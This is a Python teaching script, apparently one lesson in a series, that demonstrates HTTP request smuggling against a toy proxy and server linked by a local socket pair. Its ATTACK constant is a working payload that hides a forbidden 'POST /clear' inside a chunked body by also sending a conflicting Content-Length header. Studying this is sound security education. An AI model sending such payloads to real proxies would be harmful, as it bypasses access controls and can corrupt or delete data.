"""Send one request through a small proxy to the server of a file, and show what each of them saw.

    python 03_attack.py 03_naive.py

The proxy is right by the standard as it was for years: if a request has both a length
and chunks, the chunks count. It forbids /clear, passes the head on as it came, and the
body as one chunk.
"""

import os
import runpy
import socket
import sys

from earlier import built
from talk import connect, read_all

HIDDEN = b"POST /clear HTTP/1.1\r\nHost: h\r\nContent-Length: 7\r\n\r\n"  # 7 is what the last chunk makes
ATTACK = (b"POST /notes HTTP/1.1\r\nHost: h\r\nContent-Length: 4\r\nTransfer-Encoding: chunked\r\n\r\n"
          b"%x\r\n%b\r\n0\r\n\r\n" % (len(HIDDEN), HIDDEN))


def pass_on(client, server):
    """Read one request from the client, and send it to the server unless it is forbidden."""
    head, data = built("01").read_head(client)
    method, target, fields = built("02").parse_head(head)
    print("the proxy saw: ", method, target)
    if target == "/clear":
        raise SystemExit("forbidden")
    chunked = fields.get("transfer-encoding") == "chunked"
    body = built("03").Body(client, data, None if chunked else int(fields.get("content-length", 0)))
    text = b"".join(iter(body.read, b""))
    server.sendall(head + b"\r\n\r\n" + (b"%x\r\n%b\r\n0\r\n\r\n" % (len(text), text) if chunked else text))


def main():
    folder = os.path.dirname(os.path.abspath(__file__))
    respond = runpy.run_path(os.path.join(folder, sys.argv[1]))["respond"]

    def watched(method, target, text):
        print("the server saw:", method, target)
        return respond(method, target, text)

    client, ours = socket.socketpair()
    with client, ours, connect(sys.argv[1], respond=watched) as server:
        client.sendall(ATTACK)
        pass_on(ours, server)
        for line in read_all(server).decode().splitlines():
            if line.startswith("HTTP/"):
                print("it answered:   ", line)


if __name__ == "__main__":
    main()
